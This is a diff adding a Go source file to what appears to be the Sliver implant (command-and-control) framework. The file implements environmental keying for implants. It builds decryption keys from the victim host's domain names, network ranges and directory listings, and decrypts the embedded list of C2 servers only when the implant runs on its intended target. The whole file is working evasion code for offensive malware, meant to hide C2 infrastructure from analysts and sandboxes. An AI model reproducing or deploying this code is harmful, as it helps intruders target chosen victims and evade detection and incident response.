@@ -0,0 +1,189 @@
+package envkey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"net"
+	"os"
+	"strconv"
+	"strings"
+
+	"github.com/bishopfox/sliver/implant/sliver/cryptography"
+	"github.com/bishopfox/sliver/implant/sliver/snapshot"
+	"golang.org/x/crypto/chacha20poly1305"
+)
+
+var c2s []string
+
+// Unlock - Derive the key from the host's environment and decrypt the c2s,
+// returns false if this isn't the environment the implant was keyed to
+func Unlock() bool {
+	salt, err := hex.DecodeString(`{{.Config.EnvKeySalt}}`)
+	if err != nil {
+		return false
+	}
+	ciphertext, err := base64.StdEncoding.DecodeString(`{{.Config.EnvKeyC2s}}`)
+	if err != nil {
+		return false
+	}
+
+	// Each keyed value has a few candidates, every combination is tried
+	candidates := [][]string{}
+	// {{if .Config.KeyDomain}}
+	candidates = append(candidates, domains())
+	// {{end}}
+	// {{if .Config.KeyCIDR}}
+	candidates = append(candidates, networks(`{{.Config.EnvKeyCIDRBits}}`, `{{.Config.EnvKeyCIDRSize}}`))
+	// {{end}}
+	// {{if .Config.KeyFile}}
+	candidates = append(candidates, files(`{{.Config.EnvKeyFileDir}}`))
+	// {{end}}
+
+	plaintext, ok := tryKeys(salt, ciphertext, candidates)
+	// {{if .Config.Debug}}
+	log.Printf("[envkey] unlocked %v with %d candidate list(s)", ok, len(candidates))
+	// {{end}}
+	if !ok {
+		return false
+	}
+	c2s = strings.Split(string(plaintext), "\n")
+	return true
+}
+
+// C2s - The decrypted c2s, empty until the implant is unlocked
+func C2s() []string {
+	return c2s
+}
+
+// tryKeys - Decrypt with the key derived from each combination of candidates
+func tryKeys(salt []byte, ciphertext []byte, candidates [][]string) ([]byte, bool) {
+	materials := make([]string, len(candidates))
+	var try func(int) ([]byte, bool)
+	try = func(index int) ([]byte, bool) {
+		if index == len(candidates) {
+			plaintext, err := cryptography.Decrypt(key(salt, materials), ciphertext)
+			return plaintext, err == nil
+		}
+		for _, candidate := range candidates[index] {
+			materials[index] = candidate
+			if plaintext, ok := try(index + 1); ok {
+				return plaintext, true
+			}
+		}
+		return nil, false
+	}
+	return try(0)
+}
+
+// key - Must match the server's derivation (server/generate/envkey.go)
+func key(salt []byte, materials []string) [chacha20poly1305.KeySize]byte {
+	digest := sha256.New()
+	digest.Write(salt)
+	for _, material := range materials {
+		digest.Write([]byte(material))
+		digest.Write([]byte{0})
+	}
+	var derived [chacha20poly1305.KeySize]byte
+	copy(derived[:], digest.Sum(nil))
+	return derived
+}
+
+// domains - The joined domain, the user's dns domain and the hostname's suffix
+func domains() []string {
+	found := []string{}
+	add := func(domain string) {
+		domain = strings.ToLower(strings.TrimSuffix(strings.TrimSpace(domain), "."))
+		if domain != "" && !contains(found, domain) {
+			found = append(found, domain)
+		}
+	}
+	add(snapshot.Domain())
+	add(os.Getenv("USERDNSDOMAIN"))
+	if hostname, err := os.Hostname(); err == nil {
+		if _, suffix, ok := strings.Cut(hostname, "."); ok {
+			add(suffix)
+		}
+	}
+	return found
+}
+
+// networks - The network of each interface address with the keyed prefix length
+func networks(prefixBits string, prefixSize string) []string {
+	found := []string{}
+	bits, _ := strconv.Atoi(prefixBits)
+	size, _ := strconv.Atoi(prefixSize)
+	mask := net.CIDRMask(bits, size)
+	if mask == nil {
+		return found
+	}
+	addrs, err := net.InterfaceAddrs()
+	if err != nil {
+		return found
+	}
+	for _, addr := range addrs {
+		ipNet, ok := addr.(*net.IPNet)
+		if !ok {
+			continue
+		}
+		ip := ipNet.IP.To4()
+		if size != 8*net.IPv4len {
+			if ip != nil {
+				continue
+			}
+			ip = ipNet.IP.To16()
+		}
+		if ip == nil {
+			continue
+		}
+		network := (&net.IPNet{IP: ip.Mask(mask), Mask: mask}).String()
+		if !contains(found, network) {
+			found = append(found, network)
+		}
+	}
+	return found
+}
+
+// files - The names in the key file's directory
+func files(dir string) []string {
+	found := []string{}
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		return found
+	}
+	for _, entry := range entries {
+		found = append(found, strings.ToLower(entry.Name()))
+	}
+	return found
+}
+
+func contains(values []string, value string) bool {
+	for _, existing := range values {
+		if existing == value {
+			return true
+		}
+	}
+	return false
+}